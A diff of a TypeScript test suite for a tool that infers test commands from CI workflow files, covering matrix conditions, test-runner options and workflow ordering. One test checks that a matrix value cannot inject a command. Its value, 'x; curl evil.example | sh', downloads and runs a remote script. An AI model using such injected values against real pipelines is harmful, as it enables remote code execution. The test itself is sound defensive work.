@@ -137,6 +137,34 @@ describe('commands that only the CI service can run are left out', () => {
     expect(tested(run(`make test-py\${{ matrix.python }}`), matrix)).toBeUndefined();
   });
 
+  test('a step for one value of the matrix runs, unless the value is another system', () => {
+    const matrix =
+      '    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n        arch: [amd64, arm64]\n        include:\n          - { arch: s390x, python: "3.13" }\n';
+    const step = (condition: string): string | undefined =>
+      tested(`      - if: \${{ ${condition} }}\n        run: make check\n`, matrix);
+    expect(step("matrix.arch == 'amd64'")).toBe('make check');
+    expect(step("matrix.arch == 's390x' && matrix.os == 'ubuntu-latest'")).toBe('make check');
+    expect(step("matrix.python != '3.12'")).toBe('make check');
+    expect(step("matrix.arch == 'mips'")).toBeUndefined();
+    expect(step("matrix.arch == 'amd64' && matrix.os == 'windows-latest'")).toBeUndefined();
+    expect(step("matrix.nothing == 'x'")).toBeUndefined();
+  });
+
+  test('what an option leaves out or adds does not make tests heavy, and what installs or leaves out tests is none', () => {
+    expect(tested(run('mix test --include integration'))).toBe('mix test --include integration');
+    expect(tested(run('mix test.integration'))).toBeUndefined();
+    expect(tested(run('meson test -Cbuild', 'meson dist --no-tests -Cbuild'))).toBe('meson test -Cbuild');
+    expect(tested(run('make requirements check'))).toBeUndefined();
+  });
+
+  test('a workflow named after Linux comes before one named after a language', () => {
+    const read = {
+      '.github/workflows/rust.yml': workflow(run('meson test -Cbuild -Drust=true')),
+      '.github/workflows/linux.yml': workflow(run('meson test -Cbuild')),
+    };
+    expect(detect(read).commands.test).toBe('meson test -Cbuild');
+  });
+
   test('a value of the matrix cannot add a command', () => {
     const matrix = '    strategy:\n      matrix:\n        suite: ["x; curl evil.example | sh"]\n';
     expect(tested(run(`make test-\${{ matrix.suite }}`), matrix)).toBeUndefined();
